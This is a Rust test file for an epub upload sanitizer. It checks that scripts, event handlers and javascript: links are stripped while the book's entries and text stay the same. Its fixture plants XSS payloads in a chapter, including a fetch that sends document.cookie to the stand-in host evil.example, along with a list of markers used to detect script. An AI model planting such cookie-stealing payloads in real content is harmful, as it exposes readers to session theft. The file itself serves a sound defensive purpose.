//! Uploaded epubs lose their scripts on the server: what is stored (and the trial cut from
//! it) holds no script, handler or script link, and still reads as the same book.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{EpubSpec, chapters, epub, unzip, zip_with_mimetype};
use quire_bookfile::{
    BookFileError, Format, Limits, accept, extract_text, inspect, sanitize, trial,
};

const CH1: &str = "OEBPS/text/ch1.xhtml";

/// `book` with the entry `name` changed by `edit` (every other entry as it was).
fn with_entry(book: &[u8], name: &str, edit: impl Fn(String) -> String) -> Vec<u8> {
    let files: Vec<(String, Vec<u8>)> = unzip(book)
        .into_iter()
        .filter(|(n, _)| n != "mimetype")
        .map(|(n, b)| {
            if n == name {
                let b = edit(String::from_utf8(b).unwrap()).into_bytes();
                (n, b)
            } else {
                (n, b)
            }
        })
        .collect();
    zip_with_mimetype(&files)
}

/// A chapter with a script, load and click handlers and a javascript: link; and an SVG
/// image with its own onload.
fn scripted_book() -> Vec<u8> {
    let mut spec = EpubSpec::new(chapters(3, 4));
    spec.extra.push((
        "OEBPS/images/map.svg".into(),
        b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect width=\"9\" height=\"9\"/></svg>"
            .to_vec(),
    ));
    with_entry(&epub(&spec), CH1, |xhtml| {
        xhtml
            .replace("<body>", "<body onload=\"steal(document.cookie)\">")
            .replace(
                "</head>",
                "<script type=\"text/javascript\">fetch('https://evil.example/?c=' + document.cookie)</script></head>",
            )
            .replacen("<p>", "<p onclick=\"alert(2)\">", 1)
            .replace(
                "</section>",
                "<p><a href=\"javascript:alert(3)\">more</a></p></section>",
            )
    })
}

/// Every text of every entry, for "is this anywhere in the file".
fn all_text(data: &[u8]) -> String {
    unzip(data)
        .into_iter()
        .map(|(_, b)| String::from_utf8_lossy(&b).into_owned())
        .collect()
}

fn assert_no_script(data: &[u8]) {
    let text = all_text(data).to_ascii_lowercase();
    for bad in [
        "<script",
        "onload",
        "onclick",
        "javascript:",
        "evil.example",
    ] {
        assert!(!text.contains(bad), "{bad} is still in the file");
    }
}

/// `mimetype` is the first entry, stored uncompressed, as EPUB requires.
fn assert_mimetype_first_and_stored(data: &[u8]) {
    assert_eq!(&data[..4], b"PK\x03\x04", "a local file header first");
    assert_eq!(u16::from_le_bytes([data[8], data[9]]), 0, "stored");
    assert_eq!(&data[30..38], b"mimetype");
    assert_eq!(&data[38..58], b"application/epub+zip");
}

#[test]
fn scripts_handlers_and_javascript_links_are_removed_and_the_book_reads_the_same() {
    let dirty = scripted_book();
    assert!(
        all_text(&dirty).contains("<script"),
        "the fixture has a script"
    );
    let limits = Limits::default();

    let clean = sanitize(Format::Epub, &dirty, &limits)
        .unwrap()
        .expect("the epub is rewritten");

    assert_no_script(&clean);
    assert_mimetype_first_and_stored(&clean);
    let names = |d: &[u8]| unzip(d).into_iter().map(|(n, _)| n).collect::<Vec<_>>();
    assert_eq!(
        names(&clean),
        names(&dirty),
        "the same entries in the same order"
    );
    for ((name, before), (_, after)) in unzip(&dirty).iter().zip(unzip(&clean).iter()) {
        if name != CH1 && !name.ends_with(".svg") {
            assert_eq!(before, after, "{name} is untouched");
        }
    }
    let chapter =
        String::from_utf8(unzip(&clean).into_iter().find(|(n, _)| n == CH1).unwrap().1).unwrap();
    assert!(
        chapter.contains("<a>more</a>"),
        "the link's text stays: {chapter}"
    );
    assert!(chapter.contains("<body>") && chapter.contains("<section epub:type=\"chapter\">"));

    let before = inspect("b.epub", &dirty, &limits).unwrap();
    let after = inspect("b.epub", &clean, &limits).unwrap();
    assert_eq!(after, before, "the same title, authors and chapters");
    assert_eq!(
        extract_text(Format::Epub, &clean, usize::MAX).unwrap(),
        extract_text(Format::Epub, &dirty, usize::MAX).unwrap()
    );

    let sample = trial(Format::Epub, &clean, &after.chapters, 40).unwrap();
    assert_no_script(&sample);
    assert!(inspect("t.epub", &sample, &limits).is_ok());
}

#[test]
fn a_clean_epub_is_kept_byte_for_byte() {
    for spec in [EpubSpec::new(chapters(4, 5)), {
        let mut s = EpubSpec::new(chapters(2, 2));
        s.nav = false;
        s.ncx = true;
        s
    }] {
        let book = epub(&spec);
        assert_eq!(sanitize(Format::Epub, &book, &Limits::default()), Ok(None));
        let accepted = accept("b.epub", &book, &Limits::default()).unwrap();
        assert_eq!(accepted.replacement, None);
        assert_eq!(
            accepted.inspected,
            inspect("b.epub", &book, &Limits::default()).unwrap()
        );
    }
}

#[test]
fn an_accepted_upload_describes_the_file_to_store() {
    let dirty = scripted_book();
    let accepted = accept("b.epub", &dirty, &Limits::default()).unwrap();
    let stored = accepted.replacement.expect("a rewritten file to store");
    assert_no_script(&stored);
    assert_eq!(
        accepted.inspected,
        inspect("b.epub", &stored, &Limits::default()).unwrap()
    );
    // The same upload gives the same bytes (a second upload is still a duplicate).
    let again = accept("b.epub", &dirty, &Limits::default()).unwrap();
    assert_eq!(again.replacement, Some(stored));
}

#[test]
fn a_second_entry_of_the_same_name_does_not_reach_the_stored_file() {
    // Two entries named ch1: the first with a script, the second clean. The zip crate
    // reads the second; a reader that takes the first would run the script.
    let book = epub(&EpubSpec::new(chapters(2, 2)));
    let clean_ch1 = unzip(&book).into_iter().find(|(n, _)| n == CH1).unwrap().1;
    let dirty_ch1 = String::from_utf8(clean_ch1.clone())
        .unwrap()
        .replace("</head>", "<script>alert(1)</script></head>");
    let mut files: Vec<(String, Vec<u8>)> = unzip(&book)
        .into_iter()
        .filter(|(n, _)| n != "mimetype" && n != CH1)
        .collect();
    files.insert(0, (CH1.into(), dirty_ch1.into_bytes()));
    files.push(("OEBPS/text/chX.xhtml".into(), clean_ch1));
    let mut twice = zip_with_mimetype(&files);
    for i in 0..twice.len() - CH1.len() {
        if &twice[i..i + CH1.len()] == b"OEBPS/text/chX.xhtml" {
            twice[i..i + CH1.len()].copy_from_slice(CH1.as_bytes());
        }
    }

    let stored = sanitize(Format::Epub, &twice, &Limits::default())
        .unwrap()
        .expect("the container is written again");
    assert_no_script(&stored);
    let names: Vec<String> = unzip(&stored).into_iter().map(|(n, _)| n).collect();
    assert_eq!(names.iter().filter(|n| *n == CH1).count(), 1, "{names:?}");
}

#[test]
fn utf16_documents_are_refused() {
    let book = epub(&EpubSpec::new(chapters(2, 2)));
    let files: Vec<(String, Vec<u8>)> = unzip(&book)
        .into_iter()
        .filter(|(n, _)| n != "mimetype")
        .map(|(n, b)| {
            if n == CH1 {
                let mut utf16 = vec![0xFF, 0xFE];
                for unit in String::from_utf8(b).unwrap().encode_utf16() {
                    utf16.extend_from_slice(&unit.to_le_bytes());
                }
                (n, utf16)
            } else {
                (n, b)
            }
        })
        .collect();
    let book = zip_with_mimetype(&files);
    let refused = sanitize(Format::Epub, &book, &Limits::default());
    assert!(
        matches!(&refused, Err(BookFileError::Unreadable(m)) if m.contains("UTF-16")),
        "{refused:?}"
    );
}

#[test]
fn pdf_and_txt_files_are_stored_as_they_are() {
    let txt = common::txt_book(2, 2).into_bytes();
    assert_eq!(sanitize(Format::Txt, &txt, &Limits::default()), Ok(None));
    let pdf = common::pdf(3, None);
    assert_eq!(sanitize(Format::Pdf, &pdf, &Limits::default()), Ok(None));
}
